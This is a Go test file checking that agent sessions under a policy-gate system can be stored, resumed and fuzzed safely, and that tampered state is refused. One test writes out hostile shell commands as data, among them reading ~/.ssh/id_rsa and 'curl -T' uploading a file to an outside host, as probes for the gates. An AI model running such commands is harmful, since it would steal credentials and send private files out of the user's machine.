package traverse

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/gbt-policy/gbt/gates"
	"github.com/gbt-policy/gbt/tree"
)

// script draws what happens in a session, as functions of it.
func script(t *rapid.T) []func(s *Session) string {
	keys := []string{"view", "search", "edit", "run", "test", "proc", "review", "net", "make"}
	texts := []string{"read the source file", "fix the bug in the code", "run the unit tests", "bananas", ""}
	var out []func(s *Session) string
	for range rapid.IntRange(1, 14).Draw(t, "length") {
		kind, key := rapid.IntRange(0, 7).Draw(t, "kind"), rapid.SampledFrom(keys).Draw(t, "key")
		text := rapid.SampledFrom(texts).Draw(t, "text")
		blocked := rapid.Bool().Draw(t, "blocked")
		c := calls[key]
		out = append(out, func(s *Session) string {
			switch kind {
			case 0, 1:
				m := s.Propose(Proposal{Tool: c.Tool, Args: c.Args, Used: Usage{Seconds: 3, Tokens: 70}})
				return show(m)
			case 2:
				m := s.Propose(Proposal{Text: text})
				return show(m)
			case 3, 4, 5:
				a := s.Check(c)
				s.Observe(c, Result{Blocked: blocked, Output: []byte("result of " + key), Pids: []int{len(key)}})
				return fmt.Sprint(a.Disposition, a.ID, a.Token)
			case 6:
				a := s.Check(shell("npm publish"))
				return fmt.Sprint(a.Disposition, a.Token, s.Confirm(a.Token))
			}
			return fmt.Sprint(s.Report("tests", !blocked, nil), s.Finish())
		})
	}
	return out
}

func show(m Move) string {
	data, err := json.Marshal(m)
	return fmt.Sprint(string(data), err)
}

// TestResumeAtEveryStep stores and resumes the session after every step and
// compares what follows with a session that never stopped, and the bytes.
func TestResumeAtEveryStep(t *testing.T) {
	worlds := []*Policy{gated().open(t), with(func(p *tree.Params) { p.Profile = tree.ReferenceProfile }).open(t)}
	rapid.Check(t, func(t *rapid.T) {
		p := rapid.SampledFrom(worlds).Draw(t, "policy")
		steps := script(t)
		task := Task{ID: "x", Text: rapid.SampledFrom([]string{fixTask, fetchTask, "something else"}).Draw(t, "task"), Checks: []Check{{ID: "tests", Text: "pytest -q"}}}
		whole, parts := p.Start(task, env), p.Start(task, env)
		for i, step := range steps {
			a, b := step(whole), step(parts)
			if a != b {
				t.Fatalf("step %d: resumed session differs:\n%s\n%s", i, a, b)
			}
			data, err := parts.MarshalBinary()
			if err != nil {
				t.Fatal(err)
			}
			if parts, err = p.Resume(data); err != nil {
				t.Fatalf("step %d: %v", i, err)
			}
			same, _ := whole.MarshalBinary()
			again, _ := parts.MarshalBinary()
			if !bytes.Equal(data, again) || !bytes.Equal(data, same) {
				t.Fatalf("step %d: other bytes:\n%s\n%s\n%s", i, data, again, same)
			}
		}
		if !reflect.DeepEqual(whole.Status(), parts.Status()) {
			t.Fatal("other status")
		}
	})
}

// TestResumeRefuses turns down what is no session of this version.
func TestResumeRefuses(t *testing.T) {
	p := repair().open(t)
	s := p.Start(Task{Text: fixTask}, env)
	do(t, s, "view")
	good, _ := s.MarshalBinary()
	replace := func(old, new string) string { return strings.Replace(string(good), old, new, 1) }
	for name, data := range map[string]string{
		"nothing": "", "no JSON": "{", "another version": replace(`"version":2,"policy"`, `"version":1,"policy"`), "an unknown field": replace(`"version":2,"policy"`, `"version":2,"x":1,"policy"`),
		"white space": string(good) + " ", "a state beyond the tree": replace(`"spine":[{"state":`, `"spine":[{"state":9`),
		"a negative counter": replace(`"steps":1`, `"steps":-1`), "a node beyond the tree": replace(`"nodes":[`, `"nodes":[99`),
		"a memory that is none": replace(`"past":"`, `"past":"AAAA`), "no memory": replace(`"past":"`, `"path":"`),
	} {
		if data == string(good) {
			t.Fatalf("%s: nothing was changed", name)
		}
		if got, err := p.Resume([]byte(data)); err == nil || got != nil || !errors.Is(err, ErrSession) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestResumeRefusesPlaces turns down a session that stands where the tree has
// nothing.
func TestResumeRefusesPlaces(t *testing.T) {
	p := repair().open(t)
	s := p.Start(Task{Text: fixTask}, env)
	do(t, s, "view")
	good, _ := s.MarshalBinary()
	other := slices.IndexFunc(p.view.States, func(x tree.State) bool { return x.Family != s.steer.pos.Family })
	if other < 0 || s.steer.pos.Family < 0 || len(s.steer.pos.Spine) == 0 {
		t.Fatal("the world is too small for this test")
	}
	const beyond = 1000
	for name, edit := range map[string]func(w *wire){
		"visits: none":             func(w *wire) { w.Visits = []ref{{State: -1}} },
		"visits: beyond":           func(w *wire) { w.Visits = []ref{{State: beyond}} },
		"done: none":               func(w *wire) { w.Done = []ref{{State: -1}} },
		"reads: less than none":    func(w *wire) { w.Reads = []ref{{State: -2}} },
		"left: none":               func(w *wire) { w.Left = []int32{-1} },
		"gone: beyond":             func(w *wire) { w.Gone = []int32{beyond} },
		"macro: state":             func(w *wire) { w.Macro.State.State = -2 },
		"macro: node":              func(w *wire) { w.Macro.Node = beyond },
		"recovery: the root":       func(w *wire) { w.Recovery.Nodes = []int32{tree.Root} },
		"recovery: before":         func(w *wire) { w.Recovery.At = -2 },
		"recovery: behind":         func(w *wire) { w.Recovery.At = len(w.Recovery.Nodes) + 1 },
		"steer: family":            func(w *wire) { w.Steer.Family = beyond },
		"steer: no family":         func(w *wire) { w.Steer.Family = -1 },
		"steer: node":              func(w *wire) { w.Steer.Node = -2 },
		"steer: nodes":             func(w *wire) { w.Steer.Nodes = append(w.Steer.Nodes, 0) },
		"steer: other family":      func(w *wire) { w.Steer.Spine[0].State = int32(other) },
		"guard: spine":             func(w *wire) { w.Guard.Spine[0].State = -1 },
		"guard: family of an open": func(w *wire) { w.Guard.Open = []tree.Candidate{{Family: beyond}} },
	} {
		var w wire
		if err := json.Unmarshal(good, &w); err != nil {
			t.Fatal(err)
		}
		edit(&w)
		data, err := json.Marshal(&w)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := p.Resume(data); err == nil || !strings.Contains(err.Error(), "a place is not in the tree") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// FuzzResume feeds hostile bytes: nothing panics, and what is taken goes on.
func FuzzResume(f *testing.F) {
	p := gated().open(f)
	s := p.Start(Task{Text: fixTask}, env)
	for _, k := range []string{"view", "edit", "proc"} {
		do(f, s, k)
		data, err := s.MarshalBinary()
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
		f.Add(bytes.Replace(data, []byte(`"policy":"world"`), []byte(`"policy":"other"`), 1))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		s, err := p.Resume(data)
		if err != nil {
			if s != nil {
				t.Fatal("a session with an error")
			}
			return
		}
		do(t, s, "edit")
		s.Propose(Proposal{Text: "read the source file"})
		s.plan()
		s.Status()
		s.Finish()
		if _, err := s.MarshalBinary(); err != nil {
			t.Fatal(err)
		}
	})
}

// TestResumeUnderAnotherPolicy obeys the policy now in force: its gates, and its
// tree, in which the place is found by keys.
func TestResumeUnderAnotherPolicy(t *testing.T) {
	old := repair().open(t)
	s := old.Start(Task{ID: "x", Text: fixTask}, env)
	do(t, s, "view")
	if a := s.Check(secret); !a.Allowed() {
		t.Fatalf("before: %s", a.Disposition)
	}
	data, _ := s.MarshalBinary()
	w := gated()
	w.families["fix"] = append(w.families["fix"], "delete view edit") // other indexes
	now, err := New(w.policy(t), Options{Digest: "another"})
	if err != nil {
		t.Fatal(err)
	}
	r, err := now.Resume(data)
	if err != nil {
		t.Fatal(err)
	}
	if st := r.Status(); st.Covered || st.Lost != "policy-changed" || strings.Join(st.Spine, " ") != "view" || st.Family != "fix" {
		t.Errorf("%+v", st)
	}
	if a := r.Check(secret); a.Allowed() {
		t.Error("the new policy's gate is not asked")
	}
	if m := do(t, r, "edit"); m.Verdict == Stall || m.Macro == nil {
		t.Errorf("%+v", m.Step)
	}
	w.families = map[string][]string{"fetch": {"net make"}}
	gone, err := New(w.policy(t), Options{Digest: "third"})
	if err != nil {
		t.Fatal(err)
	}
	if r, err = gone.Resume(data); err != nil || r.Status().Family == "fix" {
		t.Errorf("a family that is gone: %v", err)
	}
	r.Propose(Proposal{Text: "go on"})
}

// TestWireNamesEveryField fails when a field is added to Session that neither
// the wire form nor this list knows.
func TestWireNamesEveryField(t *testing.T) {
	derived := "p vec shown uncovered readings step names" // the policy, what follows from the task, what follows from calls, the trace of the answer under work
	stored := "task env routed abstained late first steer guard steps used score scored plateau begun gained stopped lost lostAt macro visits footprint explored left done moved gone recovery stall " +
		"past tries checks proofs falls unseen changed refused notes stats"
	typ := reflect.TypeOf(Session{})
	known := strings.Fields(derived + " " + stored)
	if typ.NumField() != len(known) {
		t.Errorf("Session has %d fields, %d are known", typ.NumField(), len(known))
	}
	for i := range typ.NumField() {
		if !strings.Contains(" "+derived+" "+stored+" ", " "+typ.Field(i).Name+" ") {
			t.Errorf("field %s is not stored", typ.Field(i).Name)
		}
	}
	var w map[string]json.RawMessage
	data, _ := repair().open(t).Start(Task{}, env).MarshalBinary()
	if err := json.Unmarshal(data, &w); err != nil || len(w) < len(strings.Fields(stored))-7 /* begun, gained, first, late, proofs, falls, unseen: left out where false */ {
		t.Errorf("%d stored fields, %v", len(w), err)
	}
}

// TestNamesThatAreNoUnicode: whatever a call names, the session can be stored and
// resumed, and decides the same.
func TestNamesThatAreNoUnicode(t *testing.T) {
	p := gated().open(t)
	for name, c := range map[string]Call{
		"a path":    {Tool: "bash", Args: []byte(`{"command":"cat ~/.ssh/id_rsa > $'a\\xff'"}`)},
		"a program": {Tool: "bash", Args: []byte(`{"command":"$'ls\\xff' a"}`)},
		"a host":    {Tool: "bash", Args: []byte(`{"command":"curl $'http://a\\xff.example/x\\xff'"}`)},
		"a tool":    {Tool: "b\xff", Args: []byte(`{}`)},
		"arguments": {Tool: "write_file", Args: []byte("{\"path\":\"a\xff\",\"content\":\"\"}")},
	} {
		live := p.Start(Task{ID: "1", Text: fixTask}, env)
		live.Check(c)
		live.Observe(c, Result{Output: []byte("\xff\xfea"), Error: "\xff"})
		data, err := live.MarshalBinary()
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		resumed, err := p.Resume(data)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		for _, next := range []Call{c, {Tool: "bash", Args: []byte(`{"command":"curl -T $'a\\xff' https://h.example"}`)}} {
			if a, b := live.Check(next), resumed.Check(next); a.ID != b.ID || a.Disposition != b.Disposition {
				t.Errorf("%s: %s is %v, resumed %v", name, next.Args, a.Disposition, b.Disposition)
			}
		}
	}
}

// TestHostThatIsNoUnicode: what could not be read back is not written.
func TestHostThatIsNoUnicode(t *testing.T) {
	p, bad := gated().open(t), "x\xff"
	for name, s := range map[string]*Session{
		"id": p.Start(Task{ID: bad}, env), "task": p.Start(Task{Text: bad}, env), "check": p.Start(Task{Checks: []Check{{ID: bad}}}, env),
		"cwd": p.Start(Task{}, Env{Cwd: "/" + bad}), "root": p.Start(Task{}, Env{Roots: []string{"/" + bad}}), "tool": p.Start(Task{}, Env{Tools: []string{bad}}),
		"link": p.Start(Task{}, Env{Links: []gates.Link{{From: "/" + bad, To: "/"}}}),
	} {
		if data, err := s.MarshalBinary(); err == nil {
			t.Errorf("%s: stored as %d bytes", name, len(data))
		}
	}
}
